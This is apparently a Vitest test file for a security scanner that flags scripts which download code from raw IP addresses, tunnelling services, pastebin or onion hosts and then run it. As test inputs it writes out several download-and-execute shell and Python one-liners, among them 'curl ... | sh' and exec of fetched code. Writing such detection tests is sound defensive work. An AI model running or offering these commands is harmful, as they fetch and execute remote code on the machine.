import { describe, expect, it } from 'vitest';
import { isNameless, namesNobody } from './nameless.ts';
import { judgeScript } from './scripts/scripts.ts';

describe('an address that leads to nobody in particular', () => {
  it.each([
    'http://203.0.113.9/x',
    'https://203.0.113.9:8443/x',
    '203.0.113.9/x.sh',
    'http://user@203.0.113.9/x',
    'http://[2001:db8::1]/x',
    'http://3405803785/x',
    'http://0xcb007109/x',
    'https://pastebin.com/raw/abc',
    'https://a1b2.ngrok-free.app/x',
    'https://calm-tree.trycloudflare.com/i',
    'http://abcdefghij.onion/x',
    'https://cdn.discordapp.com/attachments/1/2/x.sh',
  ])('%s is one', (address) => {
    expect(isNameless(address)).toBe(true);
  });

  it.each([
    'https://example.org/install.sh',
    'http://127.0.0.1:8000/x',
    'http://10.0.0.3/x',
    'http://192.168.1.4/x',
    'http://172.20.0.2/x',
    'http://100.64.0.1/x',
    'http://[::1]/x',
    'https://raw.githubusercontent.com/a/b/main/x.sh',
    'https://notpastebin.com/x',
    '12345.example.org',
  ])('%s is none', (address) => {
    expect(isNameless(address)).toBe(false);
  });

  it('is found in a line', () => {
    expect(namesNobody('source("http://203.0.113.9/a.R")')).toBe(true);
    expect(namesNobody('see http://203.0.113.9.example.org/ and version 203.0.113.9')).toBe(false);
  });

  it.each([
    ['piped', 'curl -s http://203.0.113.9/x | sh'],
    ['through a file', 'wget -qO /tmp/k http://203.0.113.9/k\nchmod +x /tmp/k\n/tmp/k'],
    ['by another user', 'sudo -u x -i <<E\ncurl -s http://203.0.113.9/x | sh\nE'],
    ['by Python', 'python3 - <<E\nimport urllib.request as u;exec(u.urlopen("http://203.0.113.9/p").read())\nE'],
    ['by a name', 'U=http://203.0.113.9\nbash <(curl -s $U/x)'],
  ])('is an attack where what lies there is run: %s', (_, text) => {
    const found = judgeScript(text, { buildsImage: true, hashComments: true, shell: 'posix' });
    expect(found?.rule.says).toBe('malicious');
  });

  it.each([
    ['with a name', 'curl -s https://example.org/x | sh'],
    ['near', 'curl -s http://10.0.0.3/x | sh'],
    ['of packages', 'pip install -i http://203.0.113.9/simple x'],
    ['of data', 'wget http://203.0.113.9/model.bin'],
  ])('is not where it is another, or nothing is run: %s', (_, text) => {
    const found = judgeScript(text, { buildsImage: true, hashComments: true, shell: 'posix' });
    expect(found?.rule.says ?? 'note').not.toBe('malicious');
  });
});
